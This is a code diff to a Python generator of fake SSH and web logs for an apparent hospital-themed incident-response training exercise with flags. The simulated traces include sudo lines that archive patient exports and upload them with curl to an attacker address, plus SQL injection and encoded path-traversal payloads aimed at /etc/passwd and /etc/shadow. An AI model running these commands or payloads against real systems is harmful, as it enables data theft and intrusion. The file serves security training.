@@ -78,45 +78,60 @@ class _Sshd:
         self.add(t + timedelta(seconds=1), "CRON", "pam_unix(cron:session): session closed for user root", pid)
 
 
-def _auth_102() -> bytes:
-    """The PACS gateway's night: one dictionary scan that never gets in, one targeted brute force
-    that guesses svc-backup's password, a slow guesser, and the staff's ordinary logins."""
-    rng = random.Random(10205)
-    log = _Sshd(rng, "pacs-gw")
+PACS_NIGHT = {
+    "seed": 10205, "host": "pacs-gw",
+    "staff": [("radiology", "10.20.4.17", 1001), ("m.tazi", "10.20.4.31", 1004), ("dsi.ops", "10.20.1.8", 1002)],
+    "scanner": "203.0.113.54", "attacker": "198.51.100.23", "slow": "192.0.2.141",
+    "targets": [("root", 40), ("radiology", 25), ("svc-backup", 21)], "victim": ("svc-backup", 1003),
+    "loot": "/srv/pacs/export",
+}  # fmt: skip
+# The learner's own night (the flag's artifact): another gateway, other addresses, another victim.
+LIS_NIGHT = {
+    "seed": 10206, "host": "lis-gw",
+    "staff": [("labo.nuit", "10.20.6.12", 1001), ("h.saidi", "10.20.6.40", 1004), ("dsi.ops", "10.20.1.8", 1002)],
+    "scanner": "198.51.100.77", "attacker": "203.0.113.201", "slow": "192.0.2.18",
+    "targets": [("root", 33), ("biomed", 27), ("labo.nuit", 30)], "victim": ("biomed", 1006),
+    "loot": "/srv/lis/resultats",
+}  # fmt: skip
+
+
+def _auth_102(night: dict = PACS_NIGHT) -> bytes:
+    """A gateway's night: one dictionary scan that never gets in, one targeted brute force that
+    guesses an account's password, a slow guesser, and the staff's ordinary logins."""
+    rng = random.Random(night["seed"])
+    log = _Sshd(rng, night["host"])
     start = datetime(2026, 5, 11, 22, 0, 0)
     for minute in range(0, 10 * 60, 15):
         log.cron(start + timedelta(minutes=minute, seconds=1))
-    staff = [("radiology", "10.20.4.17", 1001), ("m.tazi", "10.20.4.31", 1004), ("dsi.ops", "10.20.1.8", 1002)]
+    staff = night["staff"]
     for hour, (user, ip, uid) in zip([22, 23, 5, 6, 6, 7], staff * 2, strict=True):
         t = start.replace(hour=hour) + timedelta(days=hour < 12, minutes=rng.randint(0, 50), seconds=rng.randint(0, 59))
         log.login(t, user, ip, "publickey" if user == "dsi.ops" else "password", rng.randint(5, 40), uid)
-    # The dictionary scan: invalid user names only, from 203.0.113.54, 23:40 to 00:31.
+    # The dictionary scan: invalid user names only, 23:40 to 00:31.
     names = "admin test oracle ubuntu pi user guest postgres ftpuser support deploy git".split()
     t = start.replace(hour=23, minute=40, second=3)
     for i in range(148):
-        log.fail(t, names[i % len(names)], "203.0.113.54", True)
+        log.fail(t, names[i % len(names)], night["scanner"], True)
         t += timedelta(seconds=rng.randint(18, 24))
-    # The targeted brute force from 198.51.100.23: real accounts, then svc-backup gets in.
+    # The targeted brute force: real accounts, then the victim's password is guessed.
     t = datetime(2026, 5, 12, 2, 48, 10)
-    targets = ["root"] * 40 + ["radiology"] * 25 + ["svc-backup"] * 21
+    targets = [user for user, n in night["targets"] for _ in range(n)]
     rng.shuffle(targets)
     for user in targets:
-        log.fail(t, user, "198.51.100.23", False)
+        log.fail(t, user, night["attacker"], False)
         t += timedelta(seconds=rng.randint(7, 11))
-    t = datetime(2026, 5, 12, 3, 1, 25)
-    pid = log.login(t, "svc-backup", "198.51.100.23", "password", 23, 1003)
-    sudo = [
-        (2, "svc-backup : TTY=pts/0 ; PWD=/home/svc-backup ; USER=root ; COMMAND=/usr/bin/id"),
-        (5, "svc-backup : TTY=pts/0 ; PWD=/home/svc-backup ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.cache.tgz /srv/pacs/export"),
-        (9, "svc-backup : TTY=pts/0 ; PWD=/home/svc-backup ; USER=root ; COMMAND=/usr/bin/curl -T /tmp/.cache.tgz http://198.51.100.23:8080/up"),
-    ]
-    for minutes, msg in sudo:
-        log.add(t + timedelta(minutes=minutes), "sudo", msg)
-    del pid
+    t = t + timedelta(seconds=rng.randint(7, 11)) if night is not PACS_NIGHT else datetime(2026, 5, 12, 3, 1, 25)
+    (victim, uid), ip = night["victim"], night["attacker"]
+    log.login(t, victim, ip, "password", 23, uid)
+    head = f"{victim} : TTY=pts/0 ; PWD=/home/{victim} ; USER=root ; COMMAND="
+    sudo = [(2, "/usr/bin/id"), (5, f"/usr/bin/tar czf /tmp/.cache.tgz {night['loot']}"),
+            (9, f"/usr/bin/curl -T /tmp/.cache.tgz http://{ip}:8080/up")]  # fmt: skip
+    for minutes, command in sudo:
+        log.add(t + timedelta(minutes=minutes), "sudo", head + command)
     # The slow guesser: a few tries for root over the night, from 192.0.2.141.
     for hour in [22, 0, 1, 3, 4, 5]:
         at = start.replace(hour=hour) + timedelta(days=hour < 12, minutes=rng.randint(0, 59), seconds=rng.randint(0, 59))
-        log.fail(at, "root", "192.0.2.141", False)
+        log.fail(at, "root", night["slow"], False)
     return log.render()
 
 
@@ -155,11 +170,19 @@ def _access_line(ip, t, offset, method, path, status, size, ref, ua):
     return f'{ip} - - [{_clf(t, offset)}] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"'
 
 
-def _access_102() -> bytes:
+PORTAL_DAY = {"seed": 10207, "date": (2026, 5, 12), "nikto": "203.0.113.9", "sqlmap": "198.51.100.201",
+              "sqli": "203.0.113.77", "traversal": "192.0.2.66", "blocked": "198.51.100.14", "shift": timedelta(0)}
+# The flag's artifact: the next day, other addresses.
+PORTAL_NEXT_DAY = {"seed": 10208, "date": (2026, 5, 13), "nikto": "198.51.100.9", "sqlmap": "192.0.2.201",
+                   "sqli": "198.51.100.177", "traversal": "203.0.113.158", "blocked": "192.0.2.14",
+                   "shift": timedelta(hours=2, minutes=17)}
+
+
+def _access_102(day: dict = PORTAL_DAY) -> bytes:
     """The patient portal (rdv.chu-atlas.example) on 12 May 2026, local time (+0100)."""
-    rng = random.Random(10207)
+    rng = random.Random(day["seed"])
     events = []
-    day = datetime(2026, 5, 12, 7, 0, 0)
+    start = datetime(*day["date"], 7, 0, 0) + day["shift"]
     pages = [
         ("GET", "/", 200, 5120), ("GET", "/rdv/recherche?specialite=cardiologie", 200, 8433),
         ("GET", "/rdv/recherche?specialite=pediatrie", 200, 7961), ("POST", "/connexion", 302, 0),
@@ -172,7 +195,7 @@ def _access_102() -> bytes:
         f"198.51.100.{n}" for n in rng.sample(range(10, 190), 20)
     ] + [f"203.0.113.{n}" for n in rng.sample(range(100, 250), 10)]
     for _ in range(640):
-        t = day + timedelta(seconds=rng.randint(0, 11 * 3600))
+        t = start + timedelta(seconds=rng.randint(0, 11 * 3600))
         method, path, status, size = rng.choice(pages)
         if path.startswith("/patient/resultats"):
             path = f"/patient/resultats?id={rng.randint(1000, 1999)}"
@@ -186,41 +209,41 @@ def _access_102() -> bytes:
     probes = ["/admin/", "/phpmyadmin/", "/.env", "/.git/config", "/backup.zip", "/wp-login.php", "/server-status",
               "/cgi-bin/test.cgi", "/config.php.bak", "/etc/passwd", "/../../../../etc/passwd", "/web.config",
               "/login.jsp", "/manager/html", "/xmlrpc.php", "/.DS_Store"]  # fmt: skip
-    t = datetime(2026, 5, 12, 9, 12, 4)
+    t = datetime(*day["date"], 9, 12, 4) + day["shift"]
     for i in range(96):
         path = probes[i % len(probes)] + ("" if i < len(probes) else f"?{i:03d}")
         status = 403 if path.startswith("/server-status") else 404
-        events.append((t, _access_line("203.0.113.9", t, "+0100", "GET", path, status, 312, "-", nikto.format(i + 1))))
+        events.append((t, _access_line(day["nikto"], t, "+0100", "GET", path, status, 312, "-", nikto.format(i + 1))))
         t += timedelta(milliseconds=rng.randint(200, 900))
     # sqlmap from 198.51.100.201 on the search form, 10:03.
     sqlmap = "sqlmap/1.7.2#stable (https://sqlmap.org)"
     payloads = ["cardiologie%27", "cardiologie%27%20AND%201%3D1--%20", "cardiologie%27%20AND%201%3D2--%20",
                 "cardiologie%27%20AND%20SLEEP%285%29--%20", "cardiologie%27%20UNION%20ALL%20SELECT%20NULL--%20",
                 "cardiologie%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20", "cardiologie%22", "cardiologie%29"]  # fmt: skip
-    t = datetime(2026, 5, 12, 10, 3, 40)
+    t = datetime(*day["date"], 10, 3, 40) + day["shift"]
     for i in range(48):
         p = payloads[i % len(payloads)]
-        events.append((t, _access_line("198.51.100.201", t, "+0100", "GET", f"/rdv/recherche?specialite={p}", 500 if i % 3 == 0 else 200, 402 if i % 3 == 0 else 8433, "-", sqlmap)))
+        events.append((t, _access_line(day["sqlmap"], t, "+0100", "GET", f"/rdv/recherche?specialite={p}", 500 if i % 3 == 0 else 200, 402 if i % 3 == 0 else 8433, "-", sqlmap)))
         t += timedelta(seconds=rng.randint(1, 3))
     # Manual SQL injection from 203.0.113.77 with a browser, 11:20: the results page leaks.
-    t = datetime(2026, 5, 12, 11, 20, 15)
+    t = datetime(*day["date"], 11, 20, 15) + day["shift"]
     manual = [("/patient/resultats?id=1042%27", 500, 401), ("/patient/resultats?id=1042%20OR%201%3D1", 200, 148220),
               ("/patient/resultats?id=1042%20UNION%20SELECT%20login%2Cmot_de_passe%20FROM%20comptes", 200, 9120)]  # fmt: skip
     for path, status, size in manual:
-        events.append((t, _access_line("203.0.113.77", t, "+0100", "GET", path, status, size, "-", BROWSERS[3])))
+        events.append((t, _access_line(day["sqli"], t, "+0100", "GET", path, status, size, "-", BROWSERS[3])))
         t += timedelta(seconds=rng.randint(30, 70))
     # Path traversal: 192.0.2.66 is blocked in clear, gets through URL-encoded, 14:41.
-    t = datetime(2026, 5, 12, 14, 41, 2)
+    t = datetime(*day["date"], 14, 41, 2) + day["shift"]
     trav = [("../../../../etc/passwd", 403, 199), ("..%2f..%2f..%2fetc%2fpasswd", 404, 312),
             ("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", 200, 1893),
             ("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow", 500, 401),
             ("%2e%2e%2f%2e%2e%2fapp%2fconfig%2fdatabase.yml", 200, 644)]  # fmt: skip
     for f, status, size in trav:
-        events.append((t, _access_line("192.0.2.66", t, "+0100", "GET", f"/documents/telecharger?fichier={f}", status, size, "-", BROWSERS[0])))
+        events.append((t, _access_line(day["traversal"], t, "+0100", "GET", f"/documents/telecharger?fichier={f}", status, size, "-", BROWSERS[0])))
         t += timedelta(seconds=rng.randint(20, 50))
     # Another address tries a clear traversal and is blocked.
-    t = datetime(2026, 5, 12, 16, 5, 9)
-    events.append((t, _access_line("198.51.100.14", t, "+0100", "GET", "/documents/telecharger?fichier=../../etc/hosts", 403, 199, "-", BROWSERS[1])))
+    t = datetime(*day["date"], 16, 5, 9) + day["shift"]
+    events.append((t, _access_line(day["blocked"], t, "+0100", "GET", "/documents/telecharger?fichier=../../etc/hosts", 403, 199, "-", BROWSERS[1])))
     return _lines(events)
 
 
@@ -435,7 +458,9 @@ def files() -> dict[str, bytes]:
         "cyber-101/files/journal-web.log": _web_101(),
         "cyber-101/files/sauvegardes.csv": _backups_101(),
         "cyber-102/files/auth.log": _auth_102(),
+        "cyber-102/files/lab-auth.log": _auth_102(LIS_NIGHT),
         "cyber-102/files/access.log": _access_102(),
+        "cyber-102/files/lab-access.log": _access_102(PORTAL_NEXT_DAY),
         "cyber-102/files/phishing-email.txt": _phishing_102(),
         "cyber-102/files/conn.csv": conn,
         "cyber-102/files/dns.csv": dns,
